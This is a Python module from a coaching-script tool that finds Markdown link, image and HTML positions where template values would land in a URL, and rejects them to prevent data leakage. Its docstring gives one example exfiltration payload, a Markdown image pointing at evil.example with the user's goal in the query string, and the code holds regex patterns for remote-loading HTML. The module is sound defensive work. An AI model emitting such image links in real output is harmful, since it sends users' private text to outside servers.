"""Where a script's Markdown writes a URL, so that no answer ever lands in one.

Scripts come from shared folders, and records are sent to mentors: a record written
`![](https://evil.example/p.png?goal={goal})` would hand the goal to that server the moment a
Markdown viewer loads the image, and a link with `{goal}` in its URL does the same when
clicked. The rule is structural: links and images may only have URLs the script's author wrote
out in full. The loader refuses an interpolation in a URL (`holes_in_urls`) and, in records,
any image or embedded HTML that loads from another machine (`remote_images`); rendering leaves
out a value whose place is in a URL all the same (Template.render_placed), should a template
ever reach it without the loader.

"In a URL" is judged on the Markdown before the hole, the way CommonMark and GFM read it:

- an inline link or image destination: after `](`, until its parentheses balance (the
  optional title counts too: it is on the way to the closing parenthesis);
- a link reference definition, `[label]: url`, on that line or the next;
- an autolink or raw HTML tag: after `<` and a letter, `/`, `!` or `?`, with no `>` yet;
- a bare URL that GFM viewers link by themselves: the word before the hole contains `://`,
  `www.`, `@`, or a domain such as `example.com/`.

It errs on the side of finding a URL: the cost is a script author writing a space.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # templates imports this module to render
    from reflectcoach.script.templates import Template

MESSAGE = (
    "a link or image URL may not contain {…}: answers must never leave your machine through a URL"
)
REMOTE_IMAGE = (
    "an image may not load from another machine, nor embedded HTML load anything: it would "
    "tell that server when and where the text is read; write the address as text instead"
)

_REFERENCE = re.compile(r"[ ]{0,3}\[(?:[^\]\\]|\\.)+\]:")
_TAG_START = re.compile(r"<[A-Za-z/!?]")
_REMOTE = re.compile(r"\s*<?\s*(?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:|//)")
_DOMAIN = re.compile(r"[^\W_][\w\-]*\.[^\W\d_]{2,}(?:[/:?#]|\Z)")
_IMAGE = re.compile(r"!\[")
_HTML_LOADS = re.compile(
    r"<(?:img|image|picture|source|video|audio|iframe|embed|object|link|svg|input|track)\b"
    r"|\b(?:src|srcset|poster|background|data)\s*=|url\(",
    re.IGNORECASE,
)


def in_url(markdown: str) -> bool:
    """Whether text appended to `markdown` would be part of a URL (see the module's list)."""
    lines = markdown.split("\n")
    line = lines[-1]
    return _in_destination(line) or _in_reference(lines) or _in_tag(markdown) or _in_bare_url(line)


def holes_in_urls(template: Template) -> list[tuple[str, int]]:
    """The holes (name, offset in the source) that would land in a URL, with every hole
    filled with a word or with nothing (either may move what follows into a URL)."""
    found: dict[int, str] = {}
    for filler in ("x", ""):
        text = ""
        for index, part in enumerate(template.parts):
            if index % 2 == 0:
                text += part
                continue
            name, offset = template.holes[index // 2]
            if in_url(text):
                found.setdefault(offset, name)
            text += filler
    return [(name, offset) for offset, name in sorted(found.items())]


def remote_images(text: str) -> Iterator[int]:
    """Offsets in `text` (a template's source) of images whose URL names another machine
    (`![alt](https://...)`, or a reference to such a definition) and of embedded HTML that
    loads anything."""
    remote_refs = any(
        _REMOTE.match(line[match.end() :])
        for line in text.split("\n")
        if (match := _REFERENCE.match(line))
    )
    for match in _IMAGE.finditer(text):
        if _escaped(text, match.start()):
            continue
        close = _closing_bracket(text, match.end())
        if close is None:
            continue
        after = text[close + 1 :]
        if after.startswith("(") and _REMOTE.match(after[1:]):
            yield match.start()
        elif not after.startswith("(") and remote_refs:
            yield match.start()  # `![alt][ref]` or `![ref]`: where it points is remote
    for match in _TAG_START.finditer(text):
        if _escaped(text, match.start()):
            continue
        end = text.find(">", match.start())
        tag = text[match.start() : len(text) if end < 0 else end + 1]
        if _HTML_LOADS.search(tag):
            yield match.start()


def _escaped(text: str, index: int) -> bool:
    slashes = 0
    while index - slashes - 1 >= 0 and text[index - slashes - 1] == "\\":
        slashes += 1
    return slashes % 2 == 1


def _closing_bracket(text: str, start: int) -> int | None:
    depth = 1
    i = start
    while i < len(text):
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char == "[":
            depth += 1
        elif char == "]":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return None


def _in_destination(line: str) -> bool:
    """After an unescaped `](` whose parenthesis is still open."""
    start = 0
    inside = False
    while (found := line.find("](", start)) >= 0:
        start = found + 2
        if _escaped(line, found):
            continue
        depth = 1
        i = start
        while i < len(line) and depth:
            if line[i] == "\\":
                i += 2
                continue
            depth += {"(": 1, ")": -1}.get(line[i], 0)
            i += 1
        inside = depth > 0
        if inside:
            return True
        start = i
    return inside


def _in_reference(lines: list[str]) -> bool:
    if _REFERENCE.match(lines[-1]):
        return True
    # `[label]:` alone on its line: the URL may be on the next one.
    if len(lines) >= 2 and (match := _REFERENCE.match(lines[-2])):
        return not lines[-2][match.end() :].strip()
    return False


def _in_tag(markdown: str) -> bool:
    """Inside `<...` (an autolink or an HTML tag, which may span lines) not yet closed."""
    last = None
    for match in _TAG_START.finditer(markdown):
        if not _escaped(markdown, match.start()):
            last = match.start()
    return last is not None and ">" not in markdown[last:]


def _in_bare_url(line: str) -> bool:
    word = re.split(r"[\s<>()\[\]\"'`*_~]", line)[-1]
    if not word:
        return False
    lowered = word.lower()
    return "://" in lowered or "www." in lowered or "@" in word or bool(_DOMAIN.search(word))
